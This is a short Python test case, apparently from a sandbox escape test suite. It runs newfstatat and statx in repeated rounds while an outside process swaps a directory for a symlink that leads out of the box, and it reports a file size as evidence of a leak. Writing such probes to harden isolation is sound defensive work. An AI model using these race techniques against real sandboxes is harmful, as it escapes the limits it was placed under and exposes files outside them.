# SPDX-License-Identifier: Apache-2.0
# attack: stat, statx and access while somebody outside exchanges the directory with a link that leads out
# class: race
# wins: leak
# needs: race exchange
from kit import *

tried()
st = stat_buf()
p = os.fsencode(BOX + '/race/real/sized.bin')


def one(i):
    for call, args, off in (('newfstatat', (AT_FDCWD, p, st, 0), 48), ('statx', (AT_FDCWD, p, 0, 0xfff, st), 40)):
        if sc(call, *args) == 0:
            say('SIZE=%d' % struct.unpack_from('<q', st, off)[0])
            return True


rounds(one)
